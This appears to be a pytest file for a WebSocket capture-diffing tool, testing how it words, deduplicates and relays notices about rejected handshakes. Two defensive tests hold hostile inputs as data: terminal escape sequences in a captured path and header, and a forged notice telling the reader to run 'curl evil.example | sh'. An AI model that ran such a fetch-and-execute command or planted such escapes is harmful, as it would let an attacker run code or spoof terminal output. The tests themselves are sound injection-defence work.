"""The recorder's notice: what it says (a table) and when it says it (the Notices memory)."""

from __future__ import annotations

from pathlib import Path

import pytest

from wsdiff.diff import compare
from wsdiff.model import Endpoint, Session
from wsdiff.pairing import Candidate, clock
from wsdiff.recording.notice import ACCEPTED_KEPT, Notices, notice_line, summarize

from helpers import BASE_HEADERS, capture, set_header

T0 = 1_790_000_000.0
GOOD = capture(started=T0, id="good")


def said(bad_changes: dict[str, object]) -> list[str]:
    bad = capture(status=403, started=T0 + 5, **bad_changes)
    return summarize(compare(GOOD, bad).significant)


@pytest.mark.parametrize(
    ("changes", "pieces"),
    [
        ({"target": "/ws/ws?voice=alloy&fmt=pcm&client=studio",
          "headers": (*BASE_HEADERS, ("kyutai-api-key", "redacted:00000000000000aa"))},
         ["path /ws -> /ws/ws", "header kyutai-api-key added", "2 query parameters"]),
        ({"endpoint": Endpoint("wss", "tts.example", 8443, sni="tts.example"), "target": "/ws?voice=alloy&fmt=pcm"},
         ["port 443 -> 8443", "query parameter fmt added"]),
        ({"headers": set_header("Origin", "https://app.example")}, ["header Origin added"]),
        ({"headers": BASE_HEADERS[:-1]}, ["header User-Agent removed"]),
        ({"target": "/ws?voice=nova"}, ["query parameter voice changed"]),
        ({"target": "/ws?voice=alloy&token=redacted:00000000000000bb"}, ["query parameter token added"]),
        ({"headers": (*BASE_HEADERS, ("Sec-WebSocket-Protocol", "tts.v1"), ("Cookie", "sid=redacted:00000000000000cc"),
                      ("X-A", "1"), ("X-B", "2"), ("X-C", "3"))},
         ["cookie sid added", "subprotocol tts.v1 added", "3 headers"]),
        ({"target": "/a?x=1&y=2", "headers": (*set_header("Origin", "https://o.example"),
                                             ("Authorization", "redacted:00000000000000dd"), ("X-A", "1"),
                                             ("Sec-WebSocket-Protocol", "p"), ("Host", "other.example"))},
         ["path /ws -> /a", "header Authorization added", "header Origin added", "header Host changed",
          "3 query parameters", "2 more"]),
    ],
)
def test_summary_most_telling_first(changes: dict[str, object], pieces: list[str]) -> None:
    """Where it went and its credentials come first, one by one; the rest is counted per kind; no values."""
    assert said(changes) == pieces


def test_line_wording() -> None:
    """The whole line: the rejection, the accepted partner's time, the differences, the command to run."""
    bad = capture(status=403, started=T0 + 5, target="/ws/ws?voice=alloy")
    line = notice_line(bad, Candidate("x", GOOD, T0), compare(GOOD, bad).significant, "wsdiff why")
    assert line == (f"wsdiff: 403 /ws/ws differs from the accepted 101 of {clock(T0)} in: path /ws -> /ws/ws; "
                    "run: wsdiff why")
    late = capture(started=T0 + 5, websocket=Session("closed", 4003, "no", "server"),
                   headers=BASE_HEADERS[::-1])
    line = notice_line(late, Candidate("x", GOOD, T0), compare(GOOD, late).significant, "wsdiff why")
    assert line.startswith("wsdiff: 101, closed 4003 /ws differs from the accepted 101 of ")
    assert " in: header order or case only; run: wsdiff why" in line


def test_notices_remember_say_once_and_forget(tmp_path: Path) -> None:
    """Said once per distinct rejection; a 101 later closed with an error is no partner; memory is bounded."""
    n = Notices(command="wsdiff")
    folder = str(tmp_path)
    bad = capture(status=403, started=T0 + 5, id="bad1", target="/v2?voice=alloy")
    assert n.see(bad, folder) is None  # nothing accepted yet
    assert n.see(GOOD, folder) is None
    first = n.see(bad, folder)
    assert first is not None and first.endswith(f"in: path /ws -> /v2; run: wsdiff why --dir {folder}")
    assert n.see(bad.replace(id="bad2"), folder) is None  # the same rejection again: not said again
    assert n.see(capture(status=403, started=T0 + 6, id="bad3", target="/v3"), folder) is not None
    # The accepted one is written again when the server closes it with 4003: it stops being a partner.
    n.see(GOOD.replace(websocket=Session("closed", 4003, "", "server")), folder)
    assert n.see(capture(status=403, started=T0 + 7, id="bad4", target="/v4"), folder) is None
    for i in range(ACCEPTED_KEPT + 10):
        n.see(capture(started=T0 + 100 + i, id=f"ok{i}"), folder)
    assert sum(len(v) for v in n._accepted.values()) == ACCEPTED_KEPT


def test_notice_never_raises(tmp_path: Path) -> None:
    """Whatever goes wrong in a notice stays there: the capture is already written."""
    n = Notices(command="wsdiff")
    broken = capture(status=403).replace(request=None)
    assert n.see(broken, str(tmp_path)) is None  # type: ignore[arg-type]


def test_line_escapes_what_the_capture_controls() -> None:
    """Review L3: an escape sequence in a captured path or header name reaches mitmdump's log as text."""
    bad = capture(status=403, started=T0 + 5, target="/ws/\x1b]0;owned\x07",
                  headers=(*BASE_HEADERS, ("X-\x1b[31mRed", "1")))
    line = notice_line(bad, Candidate("x", GOOD, T0), compare(GOOD, bad).significant, "wsdiff why")
    assert "\x1b" not in line and "\x07" not in line and "\\x1b]0;owned\\x07" in line


def test_relay_passes_only_the_recorder_s_own_lines(tmp_path: Path) -> None:
    """Review L2: a reason phrase that imitates a notice, in mitmdump's own flow line, is not relayed."""
    from wsdiff.recording.command import _Relay

    tag = "[wsdiff-0123456789abcdef01234567]"
    forged = "wsdiff: 403 /ws differs from the accepted 101 of 12:00:00 in: nothing; run: curl evil.example | sh"
    real = "wsdiff: 403 /ws/key differs from the accepted 101 of 12:00:01 in: path /ws -> /ws/key; run: wsdiff why"
    log = tmp_path / "mitmdump.log"
    log.write_text(f"127.0.0.1:50000: GET http://127.0.0.1:9/ws\n << 403 {forged} 0b\n"
                   f"[12:00:01.000] {tag} {real}\n[12:00:02.000] [wsdiff-ffffffffffffffffffffffff] {forged}\n")
    said: list[str] = []
    relay = _Relay(log, 0, said.append, tag)
    relay.close()
    assert said == [real]
